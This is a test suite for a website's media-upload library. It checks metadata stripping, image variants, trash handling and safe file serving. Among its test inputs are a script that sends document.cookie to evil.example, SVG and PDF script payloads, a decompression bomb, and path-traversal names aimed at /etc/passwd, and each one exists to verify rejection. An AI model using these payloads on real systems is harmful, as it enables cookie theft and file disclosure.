import fs from 'node:fs';
import path from 'node:path';
import { eq } from 'drizzle-orm';
import sharp from 'sharp';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { insertUserRow } from '@/db/auth/users-core';
import {
  deleteMediaForever,
  mediaItem,
  mediaList,
  restoreMedia,
  saveMediaTexts,
  sweepMediaFiles,
  trashMedia,
  uploadMedia,
} from '@/db/media/library';
import { publicDocument, publicImage, servedFile } from '@/db/media/public';
import { IMMUTABLE, mediaFileResponse } from '@/db/media/serve';
import { heroImageStatus, imagesWithoutAlt, setUsages, usagesFromHtml, usagesOf } from '@/db/media/usages';
import { auditEvents, media, mediaUsages, newsItems, newsTranslations, pages, pageTranslations } from '@/db/schema';
import { parseVariants } from '@/lib/media/files';
import { INCOMING_DIR, uploadsDir } from '@/lib/media/storage';
import { makeTestDatabase } from '../helpers/db';
import {
  CAMERA_SERIAL,
  cleanPdf,
  phonePhoto,
  picture,
  pdfWithHiddenScript,
  pdfWithOpenActionScript,
  pngClaiming,
  readExif,
  SECRET_XMP_NAME,
} from '../helpers/media';

// Images are really decoded and encoded here: on a busy 2-core machine (the whole suite at once) a test can take several seconds.
vi.setConfig({ testTimeout: 60_000, hookTimeout: 60_000 });

let t: ReturnType<typeof makeTestDatabase>;
let actor: { userId: number; ip: string };

beforeEach(async () => {
  t = makeTestDatabase();
  const user = await insertUserRow(t.db, { email: 'e@iom.int', name: 'Erion Editor', role: 'editor', password: 'Lumi i Drinit rrjedh ngadalë' }, { id: null });
  actor = { userId: (user as { id: number }).id, ip: '127.0.0.1' };
});
afterEach(() => t.close());

const upload = (bytes: Uint8Array, fileName = 'photo.jpg') => uploadMedia(t.db, t.dataDir, actor, { bytes, fileName });

function storedFiles(): string[] {
  const dir = uploadsDir(t.dataDir);
  return fs.existsSync(dir) ? fs.readdirSync(dir).sort() : [];
}

function incomingFiles(): string[] {
  const dir = path.join(t.dataDir, INCOMING_DIR);
  return fs.existsSync(dir) ? fs.readdirSync(dir) : [];
}

function expectNothingStored() {
  expect(storedFiles()).toEqual([]);
  expect(incomingFiles()).toEqual([]);
  expect(t.db.select().from(media).all()).toEqual([]);
}

async function uploaded(bytes: Uint8Array, fileName = 'photo.jpg'): Promise<number> {
  const result = await upload(bytes, fileName);
  if (!result.ok) throw new Error(`upload refused: ${result.error}`);
  return result.id;
}

function readStored(name: string): Buffer {
  return fs.readFileSync(path.join(uploadsDir(t.dataDir), name));
}

function addNews(titles: { en?: string; sq?: string }, heroMediaId: number | null = null): number {
  const id = t.db.insert(newsItems).values({ heroMediaId }).returning({ id: newsItems.id }).get().id;
  for (const locale of ['en', 'sq'] as const) {
    const title = titles[locale];
    if (title) t.db.insert(newsTranslations).values({ newsItemId: id, locale, slug: `${locale}-${id}`, title }).run();
  }
  return id;
}

describe('a photo from a phone', () => {
  it('is stored upright, in WebP and JPEG at 320, 640, 1024 and 1600, with no metadata left in any file', async () => {
    const original = await phonePhoto(2000, 1500);
    // The test file really carries what must not leak.
    const before = await sharp(original).metadata();
    expect(before.orientation).toBe(6);
    expect(readExif(before.exif!).gps).toEqual(expect.arrayContaining([1, 2, 3, 4]));
    expect(original.includes(SECRET_XMP_NAME)).toBe(true);
    expect(original.includes(CAMERA_SERIAL)).toBe(true);

    const id = await uploaded(original, 'IMG_0042.jpg');
    const item = mediaItem(t.db, id)!;
    // Orientation 6: 2000 × 1500 as stored in the file is 1500 × 2000 upright.
    expect(item).toMatchObject({ kind: 'image', mime: 'image/jpeg', width: 1500, height: 2000, size: original.length, fileName: 'IMG_0042.jpg' });
    expect(item.variants.map((v) => [v.width, v.height, Object.keys(v.files).sort()])).toEqual([
      [320, 427, ['jpeg', 'webp']],
      [640, 853, ['jpeg', 'webp']],
      [1024, 1365, ['jpeg', 'webp']],
      [1500, 2000, ['jpeg', 'webp']],
    ]);
    const names = item.variants.flatMap((v) => Object.values(v.files));
    expect(storedFiles()).toEqual([...names].sort());
    for (const name of names) {
      const bytes = readStored(name);
      const meta = await sharp(bytes).metadata();
      expect({ name, exif: meta.exif, xmp: meta.xmp, iptc: meta.iptc, icc: meta.icc, orientation: meta.orientation ?? 1 }).toEqual({
        name,
        exif: undefined,
        xmp: undefined,
        iptc: undefined,
        icc: undefined,
        orientation: 1,
      });
      const variant = item.variants.find((v) => Object.values(v.files).includes(name))!;
      expect([meta.width, meta.height]).toEqual([variant.width, variant.height]);
      expect(meta.format).toBe(name.endsWith('.webp') ? 'webp' : 'jpeg');
      // Not even as bytes: no EXIF block, no GPS IFD, no XMP packet, no names or serials.
      for (const marker of ['Exif\0\0', SECRET_XMP_NAME, CAMERA_SERIAL, 'PhoneMaker', 'x:xmpmeta', 'http://ns.adobe.com']) {
        expect({ name, marker, found: bytes.includes(marker) }).toEqual({ name, marker, found: false });
      }
    }
  }, 30_000);

  it('is auto-rotated: orientation 6 swaps width and height', async () => {
    const id = await uploaded(await phonePhoto(800, 400));
    const item = mediaItem(t.db, id)!;
    expect([item.width, item.height]).toEqual([400, 800]);
    expect(item.variants.map((v) => [v.width, v.height])).toEqual([[320, 640], [400, 800]]);
  });

  it('is never upscaled', async () => {
    const id = await uploaded(await (await picture(500, 300)).png().toBuffer(), 'small.png');
    const item = mediaItem(t.db, id)!;
    expect(item.mime).toBe('image/png');
    expect(item.variants.map((v) => [v.width, v.height, Object.keys(v.files).sort()])).toEqual([
      [320, 192, ['png', 'webp']],
      [500, 300, ['png', 'webp']],
    ]);
    const tiny = mediaItem(t.db, await uploaded(await (await picture(90, 60)).webp().toBuffer(), 'tiny.webp'))!;
    expect(tiny.variants).toEqual([{ width: 90, height: 60, files: { webp: expect.stringMatching(/-90\.webp$/) } }]);
  });

  it('in AVIF keeps AVIF and WebP', async () => {
    const id = await uploaded(await (await picture(1200, 800)).avif({ effort: 0 }).toBuffer(), 'photo.avif');
    const item = mediaItem(t.db, id)!;
    expect(item.mime).toBe('image/avif');
    expect(item.variants.map((v) => [v.width, Object.keys(v.files).sort()])).toEqual([
      [320, ['avif', 'webp']],
      [640, ['avif', 'webp']],
      [1024, ['avif', 'webp']],
      [1200, ['avif', 'webp']],
    ]);
    expect((await sharp(readStored(item.variants[0]!.files.avif!)).metadata()).format).toBe('heif');
  });

  it('uploaded twice is recognized and stored once', async () => {
    const photo = await phonePhoto(700, 500);
    const first = await upload(photo, 'a.jpg');
    const files = storedFiles();
    const second = await upload(photo, 'copy of a.jpg');
    expect(first).toMatchObject({ ok: true, status: 'created' });
    expect(second).toEqual({ ok: true, id: (first as { id: number }).id, kind: 'image', status: 'duplicate' });
    expect(storedFiles()).toEqual(files);
    expect(t.db.select().from(media).all()).toHaveLength(1);
  });

  it('uploaded again after it went to the trash comes back with its texts', async () => {
    const photo = await phonePhoto(700, 500);
    const id = await uploaded(photo);
    saveMediaTexts(t.db, actor, { id, baseVersion: 1, texts: { en: { alt: 'Judges in Durrës' }, sq: { alt: 'Gjyqtarë në Durrës' } } });
    expect(trashMedia(t.db, actor, id)).toEqual({ ok: true });
    expect(await upload(photo)).toEqual({ ok: true, id, kind: 'image', status: 'restored' });
    expect(mediaItem(t.db, id)).toMatchObject({ deletedAt: null, texts: { en: { alt: 'Judges in Durrës' } } });
  });
});

describe('bad input', () => {
  it('an executable renamed .jpg is refused', async () => {
    const exe = Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00', 'latin1'), Buffer.alloc(4096, 0x41)]);
    expect(await upload(exe, 'holiday.jpg')).toEqual({ ok: false, error: 'unsupportedType' });
    expectNothingStored();
  });

  it('an SVG is refused', async () => {
    expect(await upload(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), 'logo.svg')).toEqual({ ok: false, error: 'unsupportedType' });
    expectNothingStored();
  });

  it('a PNG with a script appended is neutralised: re-encoded, the script is in no stored file', async () => {
    const script = '<script>fetch("https://evil.example/?c="+document.cookie)</script>';
    const png = Buffer.concat([await (await picture(400, 300)).png().toBuffer(), Buffer.from(script)]);
    const id = await uploaded(png, 'chart.png');
    const item = mediaItem(t.db, id)!;
    const names = item.variants.flatMap((v) => Object.values(v.files));
    expect(names.length).toBeGreaterThan(0);
    for (const name of names) expect(readStored(name).includes('<script')).toBe(false);
    // The uploaded bytes themselves are never kept.
    expect(storedFiles().every((f) => !readStored(f).equals(png))).toBe(true);
  });

  it('a truncated JPEG is refused', async () => {
    const photo = await phonePhoto(1200, 900);
    expect(await upload(photo.subarray(0, Math.floor(photo.length * 0.7)))).toEqual({ ok: false, error: 'damaged' });
    expect(await upload(photo.subarray(0, 300))).toEqual({ ok: false, error: 'damaged' });
    expectNothingStored();
  });

  it('a 30,000 × 30,000 decompression bomb is refused from its header, before decoding', async () => {
    const bomb = pngClaiming(30_000, 30_000);
    expect(bomb.length).toBeLessThan(200_000);
    const started = Date.now();
    expect(await upload(bomb, 'bomb.png')).toEqual({ ok: false, error: 'tooManyPixels' });
    expect(Date.now() - started).toBeLessThan(2000);
    expectNothingStored();
    // Even without our header check, the decoder itself stops at the limit.
    await expect(sharp(bomb, { limitInputPixels: 40_000_000 }).raw().toBuffer()).rejects.toThrow(/pixel limit/);
  });

  it('a real, highly compressible image over 40 megapixels is refused', async () => {
    const big = await sharp({ create: { width: 8000, height: 5001, channels: 3, background: '#000' } }).png({ compressionLevel: 9 }).toBuffer();
    expect(big.length).toBeLessThan(1_000_000);
    expect(await upload(big, 'big.png')).toEqual({ ok: false, error: 'tooManyPixels' });
    expectNothingStored();
  });

  it('an empty file is refused', async () => {
    expect(await upload(new Uint8Array(0), 'empty.jpg')).toEqual({ ok: false, error: 'empty' });
    expectNothingStored();
  });

  it('files over the size limits are refused: 15 MB an image, 40 MB a PDF', async () => {
    const jpegLike = Buffer.alloc(15 * 1024 * 1024 + 1);
    jpegLike.set([0xff, 0xd8, 0xff, 0xe0]);
    expect(await upload(jpegLike)).toEqual({ ok: false, error: 'imageTooLarge' });
    const pdfLike = Buffer.alloc(40 * 1024 * 1024 + 1, 0x20);
    pdfLike.write('%PDF-1.7\n', 'latin1');
    expect(await upload(pdfLike, 'big.pdf')).toEqual({ ok: false, error: 'documentTooLarge' });
    expectNothingStored();
  });

  it('a PDF with JavaScript is refused, also when hidden in a compressed object stream', async () => {
    expect(await upload(pdfWithOpenActionScript(), 'report.pdf')).toEqual({ ok: false, error: 'pdfActiveContent' });
    expect(await upload(pdfWithHiddenScript(), 'report.pdf')).toEqual({ ok: false, error: 'pdfActiveContent' });
    expectNothingStored();
  });

  it('a file name with ../ and Unicode is shown cleaned and never used on disk', async () => {
    const id = await uploaded(cleanPdf(), '../../../etc/Raport vjetor – Shqipëri\u202e.pdf');
    const item = mediaItem(t.db, id)!;
    expect(item.fileName).toBe('Raport vjetor – Shqipëri.pdf');
    expect(storedFiles()).toEqual([`${item.hash}.pdf`]);
    expect(fs.readdirSync(t.dataDir).sort()).toEqual(['iom-albania.sqlite', 'iom-albania.sqlite-shm', 'iom-albania.sqlite-wal', INCOMING_DIR, 'uploads'].sort());
    // A PDF keeps its bytes, and its real name for the download.
    expect(readStored(`${item.hash}.pdf`).equals(cleanPdf())).toBe(true);
    expect(servedFile(t.db, `${item.hash}.pdf`)).toEqual({ name: `${item.hash}.pdf`, mime: 'application/pdf', downloadName: 'Raport vjetor – Shqipëri.pdf' });
  });

  it('a PDF named like an executable downloads with .pdf', async () => {
    const id = await uploaded(cleanPdf(), 'invoice.exe');
    expect(mediaItem(t.db, id)!.fileName).toBe('invoice.exe.pdf');
  });
});

describe('an upload that fails half-way', () => {
  it('leaves no row and no file when the database write fails after the files were moved', async () => {
    const photo = await phonePhoto(700, 500);
    const result = await uploadMedia(t.db, t.dataDir, actor, { bytes: photo, fileName: 'x.jpg' }, {
      beforeCommit: () => {
        expect(storedFiles().length).toBeGreaterThan(0);
        throw new Error('disk full');
      },
    });
    expect(result).toEqual({ ok: false, error: 'failed' });
    expectNothingStored();
    expect(t.db.select().from(auditEvents).where(eq(auditEvents.action, 'media.upload')).all()).toEqual([]);
  });

  it('leaves no row and none of its files when a file cannot be moved into place', async () => {
    const photo = await phonePhoto(700, 500);
    const { sha256 } = await import('@/lib/media/prepare');
    // Something in the way of the third file's name (upright 500 × 700: 320 WebP, 320 JPEG, 500 WebP, 500 JPEG).
    const blocker = path.join(uploadsDir(t.dataDir), `${sha256(photo)}-500.webp`);
    fs.mkdirSync(path.join(blocker, 'inside'), { recursive: true });
    expect(await upload(photo)).toEqual({ ok: false, error: 'failed' });
    expect(storedFiles()).toEqual([path.basename(blocker)]);
    expect(incomingFiles()).toEqual([]);
    expect(t.db.select().from(media).all()).toEqual([]);
  });

  it('after a crash, what it left is swept at the next start, and nothing of a stored item', async () => {
    const id = await uploaded(await phonePhoto(700, 500));
    const kept = storedFiles();
    fs.writeFileSync(path.join(uploadsDir(t.dataDir), `${'c'.repeat(64)}-320.webp`), 'orphan');
    fs.writeFileSync(path.join(t.dataDir, INCOMING_DIR, 'x.part'), 'partial');
    expect(sweepMediaFiles(t.db, t.dataDir).sort()).toEqual([path.join(INCOMING_DIR, 'x.part'), path.join('uploads', `${'c'.repeat(64)}-320.webp`)].sort());
    expect(storedFiles()).toEqual(kept);
    expect(incomingFiles()).toEqual([]);
    expect(mediaItem(t.db, id)).not.toBeNull();
  });
});

describe('a file in use', () => {
  it('cannot be moved to the trash: the answer names where it is used', async () => {
    const hero = await uploaded(await phonePhoto(700, 500), 'hero.jpg');
    const inBody = await uploaded(await (await picture(300, 200)).png().toBuffer(), 'chart.png');
    const report = await uploaded(cleanPdf(), 'report.pdf');
    const articleId = addNews({ en: 'Training for judges', sq: 'Trajnim për gjyqtarë' }, hero);
    const heroHash = mediaItem(t.db, hero)!.hash;
    const chart = mediaItem(t.db, inBody)!;
    const reportHash = mediaItem(t.db, report)!.hash;
    const html = `<p>Text</p><img src="/media/${chart.variants[0]!.files.webp}" alt="Chart"><p><a href="/media/${reportHash}.pdf">Report</a> and again <img src="/media/${chart.variants[0]!.files.png}" alt="Chart"></p>`;
    const pageId = t.db.insert(pages).values({}).returning({ id: pages.id }).get().id;
    t.db.insert(pageTranslations).values({ pageId, locale: 'sq', path: 'te-dhena', title: 'Të dhëna dhe burime' }).run();
    t.db.transaction((tx) => setUsages(tx, { type: 'page', id: pageId, locale: 'sq' }, usagesFromHtml(tx, html)));
    expect(usagesFromHtml(t.db, html).sort((a, b) => a.mediaId - b.mediaId)).toEqual([
      { mediaId: inBody, role: 'body' },
      { mediaId: report, role: 'body' },
    ]);

    expect(trashMedia(t.db, actor, hero)).toEqual({
      ok: false,
      error: 'inUse',
      usages: [{ entityType: 'news', entityId: articleId, locale: null, role: 'hero', titles: { en: 'Training for judges', sq: 'Trajnim për gjyqtarë' }, trashed: false }],
    });
    expect(trashMedia(t.db, actor, inBody)).toEqual({
      ok: false,
      error: 'inUse',
      usages: [{ entityType: 'page', entityId: pageId, locale: 'sq', role: 'body', titles: { sq: 'Të dhëna dhe burime' }, trashed: false }],
    });
    expect(trashMedia(t.db, actor, report)).toMatchObject({ ok: false, error: 'inUse' });
    expect([heroImageStatus(t.db, hero), heroImageStatus(t.db, report), heroImageStatus(t.db, 9999)]).toEqual(['ok', 'notImage', 'notFound']);
    // The database refuses too, whatever the code does.
    expect(() => t.db.delete(media).where(eq(media.id, hero)).run()).toThrow(/FOREIGN KEY/);
    expect(heroHash).toHaveLength(64);

    // Saving the text without the image frees it; a trashed article still holds its hero.
    t.db.transaction((tx) => setUsages(tx, { type: 'page', id: pageId, locale: 'sq' }, usagesFromHtml(tx, `<a href="/media/${reportHash}.pdf">Report</a>`)));
    expect(trashMedia(t.db, actor, inBody)).toEqual({ ok: true });
    t.db.update(newsItems).set({ deletedAt: new Date() }).where(eq(newsItems.id, articleId)).run();
    expect(trashMedia(t.db, actor, hero)).toMatchObject({ ok: false, usages: [{ trashed: true }] });

    // Deleting the page or article for good removes its uses (triggers).
    t.db.delete(pages).where(eq(pages.id, pageId)).run();
    t.db.delete(newsItems).where(eq(newsItems.id, articleId)).run();
    expect(t.db.select().from(mediaUsages).all()).toEqual([]);
    expect(usagesOf(t.db, [hero, report])).toEqual(new Map());
    expect(trashMedia(t.db, actor, hero)).toEqual({ ok: true });
  });

  it('uses of one language are replaced on its save, the other language’s stay', async () => {
    const img = await uploaded(await (await picture(300, 200)).png().toBuffer(), 'chart.png');
    const articleId = addNews({ en: 'A', sq: 'B' });
    t.db.transaction((tx) => {
      setUsages(tx, { type: 'news', id: articleId, locale: 'en' }, [{ mediaId: img, role: 'body' }, { mediaId: img, role: 'body' }]);
      setUsages(tx, { type: 'news', id: articleId, locale: 'sq' }, [{ mediaId: img, role: 'body' }]);
    });
    expect(t.db.select().from(mediaUsages).all()).toHaveLength(2);
    t.db.transaction((tx) => setUsages(tx, { type: 'news', id: articleId, locale: 'en' }, []));
    expect(t.db.select({ locale: mediaUsages.locale }).from(mediaUsages).all()).toEqual([{ locale: 'sq' }]);
    // A translation deleted for good takes its uses along.
    t.db.delete(newsTranslations).where(eq(newsTranslations.locale, 'sq')).run();
    expect(t.db.select().from(mediaUsages).all()).toEqual([]);
    expect(() => t.db.transaction((tx) => setUsages(tx, { type: 'news', id: articleId, locale: 'en' }, [{ mediaId: 9999, role: 'body' }]))).toThrow(/FOREIGN KEY/);
  });

  it('once unused, goes to the trash (no longer served), comes back, and is deleted for good with its files', async () => {
    const id = await uploaded(await phonePhoto(700, 500));
    const item = mediaItem(t.db, id)!;
    const name = item.variants[0]!.files.webp!;
    expect(servedFile(t.db, name)).not.toBeNull();
    expect(trashMedia(t.db, actor, id)).toEqual({ ok: true });
    expect(servedFile(t.db, name)).toBeNull();
    expect(deleteMediaForever(t.db, t.dataDir, actor, 9999)).toEqual({ ok: false, error: 'notFound' });
    expect(restoreMedia(t.db, actor, id)).toEqual({ ok: true });
    expect(servedFile(t.db, name)).not.toBeNull();
    // Only from the trash.
    expect(deleteMediaForever(t.db, t.dataDir, actor, id)).toEqual({ ok: false, error: 'notFound' });
    trashMedia(t.db, actor, id);
    expect(deleteMediaForever(t.db, t.dataDir, actor, id)).toEqual({ ok: true });
    expectNothingStored();
    const actions = t.db.select({ action: auditEvents.action, entityId: auditEvents.entityId }).from(auditEvents).where(eq(auditEvents.entityType, 'media')).all();
    expect(actions.map((a) => a.action)).toEqual(['media.upload', 'media.delete', 'media.restore', 'media.delete', 'media.delete_forever']);
    expect(actions.every((a) => a.entityId === String(id))).toBe(true);
  });
});

describe('texts per language', () => {
  it('are saved together, audited, and refused when someone saved in between', async () => {
    const id = await uploaded(await phonePhoto(700, 500));
    const texts = {
      en: { alt: '  Judges at a training in Durrës ', caption: 'Training in Durrës.', credit: '© IOM 2019' },
      sq: { alt: 'Gjyqtarë në një trajnim në Durrës', caption: 'Trajnim në Durrës.', credit: '© IOM 2019' },
    };
    expect(saveMediaTexts(t.db, actor, { id, baseVersion: 1, texts })).toEqual({ ok: true, version: 2 });
    expect(saveMediaTexts(t.db, actor, { id, baseVersion: 1, texts })).toEqual({ ok: false, error: 'stale' });
    expect(saveMediaTexts(t.db, actor, { id: 999, baseVersion: 1, texts })).toEqual({ ok: false, error: 'notFound' });
    expect(saveMediaTexts(t.db, actor, { id, baseVersion: 2, texts: { ...texts, sq: { alt: 'x'.repeat(301) } } })).toEqual({
      ok: false,
      error: 'invalid',
      fieldErrors: { 'sq.alt': 'tooLong' },
    });
    expect(mediaItem(t.db, id)!.texts.en).toEqual({ title: null, alt: 'Judges at a training in Durrës', caption: 'Training in Durrës.', credit: '© IOM 2019', decorative: false });
    // Nothing changed: no new version.
    expect(saveMediaTexts(t.db, actor, { id, baseVersion: 2, texts })).toEqual({ ok: true, version: 2 });
    expect(t.db.select().from(auditEvents).where(eq(auditEvents.action, 'media.update')).all()).toHaveLength(1);
  });

  it('decide where an image may be published: alt text in that language, or marked decorative', async () => {
    const id = await uploaded(await phonePhoto(2400, 1600));
    expect(publicImage(t.db, id, 'en')).toBeNull();
    expect(imagesWithoutAlt(t.db, [id], 'en')).toEqual([id]);
    saveMediaTexts(t.db, actor, { id, baseVersion: 1, texts: { en: { alt: 'Judges in Durrës', caption: 'A caption', credit: 'IOM' }, sq: {} } });
    const en = publicImage(t.db, id, 'en')!;
    const hash = mediaItem(t.db, id)!.hash;
    expect(en).toEqual({
      id,
      src: `/media/${hash}-1600.webp`,
      srcSet: [320, 640, 1024, 1600].map((w) => `/media/${hash}-${w}.webp ${w}w`).join(', '),
      width: 1600,
      height: 2400,
      alt: 'Judges in Durrës',
      caption: 'A caption',
      credit: 'IOM',
      og: { url: `/media/${hash}-1600.jpg`, width: 1600, height: 2400, type: 'image/jpeg' },
    });
    expect(publicImage(t.db, id, 'sq')).toBeNull();
    expect(imagesWithoutAlt(t.db, [id], 'sq')).toEqual([id]);
    saveMediaTexts(t.db, actor, { id, baseVersion: 2, texts: { en: { alt: 'Judges in Durrës' }, sq: { alt: 'ignored', decorative: true } } });
    expect(publicImage(t.db, id, 'sq')).toMatchObject({ alt: '', width: 1600 });
    expect(mediaItem(t.db, id)!.texts.sq).toMatchObject({ alt: null, decorative: true });
    expect(imagesWithoutAlt(t.db, [id, 12345], 'sq')).toEqual([12345]);
    trashMedia(t.db, actor, id);
    expect(publicImage(t.db, id, 'en')).toBeNull();
  });

  it('give a document its title and language for lists of publications', async () => {
    const id = await uploaded(cleanPdf(), 'Raport 2024.pdf');
    expect(publicDocument(t.db, id, 'sq')).toMatchObject({ title: 'Raport 2024.pdf', language: null, size: cleanPdf().length });
    saveMediaTexts(t.db, actor, { id, baseVersion: 1, language: 'sq', texts: { en: { title: 'Annual report 2024' }, sq: { title: 'Raporti vjetor 2024', alt: 'ignored for documents' } } });
    expect(publicDocument(t.db, id, 'sq')).toMatchObject({ title: 'Raporti vjetor 2024', language: 'sq', url: `/media/${mediaItem(t.db, id)!.hash}.pdf` });
    expect(mediaItem(t.db, id)!.texts.sq!.alt).toBeNull();
    expect(publicImage(t.db, id, 'sq')).toBeNull();
  });
});

describe('the library', () => {
  it('finds files by name or alt text, by type, and lists the trash apart', async () => {
    const photo = await uploaded(await phonePhoto(700, 500), 'Gjykata-Durrës.jpg');
    const report = await uploaded(cleanPdf(), 'Raport.pdf');
    saveMediaTexts(t.db, actor, { id: photo, baseVersion: 1, texts: { en: { alt: 'Judges and prosecutors' }, sq: { alt: 'Gjyqtarë dhe prokurorë' } } });
    const ids = (f: Parameters<typeof mediaList>[1]) => mediaList(t.db, f).items.map((i) => i.id);
    expect(ids({})).toEqual([report, photo]);
    expect(ids({ q: 'prokuror' })).toEqual([photo]);
    expect(ids({ q: 'gjykata' })).toEqual([photo]);
    expect(ids({ q: 'raport' })).toEqual([report]);
    // Case and accents do not matter, in the file name or the texts.
    for (const q of ['durres', 'DURRËS', 'gjyqtare', 'GJYQTARË DHE', 'Prokurorë']) expect({ q, found: ids({ q }) }).toEqual({ q, found: [photo] });
    expect(ids({ q: '%' })).toEqual([]);
    expect(ids({ kind: 'document' })).toEqual([report]);
    expect(ids({ kind: 'image' })).toEqual([photo]);
    trashMedia(t.db, actor, report);
    expect(ids({})).toEqual([photo]);
    expect(ids({ trash: true })).toEqual([report]);
    expect(mediaList(t.db, {}).items[0]).toMatchObject({ createdByName: 'Erion Editor', usages: [] });
  });
});

describe('serving', () => {
  const get = (name: string | string[], init: RequestInit = {}) =>
    mediaFileResponse(t.db, t.dataDir, Array.isArray(name) ? name : [name], new Request(`http://localhost/media/${Array.isArray(name) ? name.join('/') : name}`, init));

  it('answers an image variant with its type, nosniff and a year of immutable caching', async () => {
    const id = await uploaded(await phonePhoto(700, 500));
    const variant = mediaItem(t.db, id)!.variants[0]!;
    for (const [format, type] of [['webp', 'image/webp'], ['jpeg', 'image/jpeg']] as const) {
      const name = variant.files[format]!;
      const res = await get(name);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe(type);
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
      expect(res.headers.get('cache-control')).toBe(IMMUTABLE);
      expect(res.headers.get('content-disposition')).toBeNull();
      const body = Buffer.from(await res.arrayBuffer());
      expect(body.equals(readStored(name))).toBe(true);
      expect(res.headers.get('content-length')).toBe(String(body.length));
      const again = await get(name, { headers: { 'If-None-Match': res.headers.get('etag')! } });
      expect(again.status).toBe(304);
    }
  });

  it('answers a PDF inline under its real name', async () => {
    const id = await uploaded(cleanPdf(), 'Raport vjetor – Shqipëri.pdf');
    const res = await get(`${mediaItem(t.db, id)!.hash}.pdf`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/pdf');
    expect(res.headers.get('content-disposition')).toBe(`inline; filename="Raport vjetor _ Shqiperi.pdf"; filename*=UTF-8''Raport%20vjetor%20%E2%80%93%20Shqip%C3%ABri.pdf`);
    expect(res.headers.get('cache-control')).toBe(IMMUTABLE);
  });

  it('answers 404 to anything else: unknown names, other widths, traversal, trashed files', async () => {
    const id = await uploaded(await phonePhoto(700, 500));
    const item = mediaItem(t.db, id)!;
    fs.writeFileSync(path.join(t.dataDir, 'secret.txt'), 'secret');
    const attempts: (string | string[])[] = [
      `${item.hash}-333.webp`,
      `${item.hash}-320.png`,
      `${item.hash}.pdf`,
      `${'d'.repeat(64)}-320.webp`,
      '../secret.txt',
      '..%2Fsecret.txt',
      ['..', 'secret.txt'],
      ['..', '..', 'etc', 'passwd'],
      ['uploads', item.variants[0]!.files.webp!],
      `${item.variants[0]!.files.webp!}/`,
      `${item.variants[0]!.files.webp!}\u0000.txt`,
      '../iom-albania.sqlite',
      'iom-albania.sqlite',
      '',
    ];
    for (const name of attempts) {
      const res = await get(name);
      expect({ name, status: res.status }).toEqual({ name, status: 404 });
    }
    const name = item.variants[0]!.files.webp!;
    expect((await get(name)).status).toBe(200);
    trashMedia(t.db, actor, id);
    expect((await get(name)).status).toBe(404);
  });

  it('answers 404, not a crash, when a listed file is missing on disk', async () => {
    const id = await uploaded(await phonePhoto(700, 500));
    const name = mediaItem(t.db, id)!.variants[0]!.files.webp!;
    fs.rmSync(path.join(uploadsDir(t.dataDir), name));
    expect((await get(name)).status).toBe(404);
  });
});

describe('variants as stored', () => {
  it('list each file once and parse back', async () => {
    const id = await uploaded(await phonePhoto(700, 500));
    const row = t.db.select().from(media).where(eq(media.id, id)).get()!;
    const variants = parseVariants(row.variants);
    const names = variants.flatMap((v) => Object.values(v.files));
    expect(new Set(names).size).toBe(names.length);
    expect(names.every((n) => n.startsWith(row.hash))).toBe(true);
  });
});
